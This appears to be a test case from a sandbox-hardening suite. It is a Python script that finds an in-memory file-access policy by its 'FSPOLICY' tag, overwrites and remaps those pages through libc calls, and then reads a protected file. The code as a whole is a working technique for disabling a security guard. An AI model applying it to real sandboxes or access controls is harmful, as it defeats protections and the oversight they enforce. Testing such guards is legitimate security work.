# class: switch_off
# rule: guard_integrity
# also: native_code
# success: the policy's pages are replaced by others, and a file in /tmp read
# proof: read
import ctypes

from attack import FILE, attempt, libc

PROT_READ, MAP_PRIVATE, MAP_FIXED, MAP_ANONYMOUS, MADV_DONTNEED = 1, 2, 16, 32, 4


@attempt
def steal():
    c = libc()
    with open("/proc/self/maps") as maps:
        lines = maps.read().splitlines()
    for line in lines:
        low, high = (int(part, 16) for part in line.split()[0].split("-"))
        if "r--" not in line or high - low > 1 << 20 or "[v" in line:
            continue
        if ctypes.string_at(low, 8) == b"FSPOLICY":
            start, size = ctypes.c_void_p(low), ctypes.c_size_t(high - low)
            c.madvise(start, size, MADV_DONTNEED)
            c.mmap(start, size, PROT_READ, MAP_PRIVATE | MAP_FIXED | MAP_ANONYMOUS, -1, 0)
            c.syscall(ctypes.c_long(10), start, size, 3)
            c.mremap(start, size, size, 3, ctypes.c_void_p(0x10000000))
            break
    return open(FILE).read()
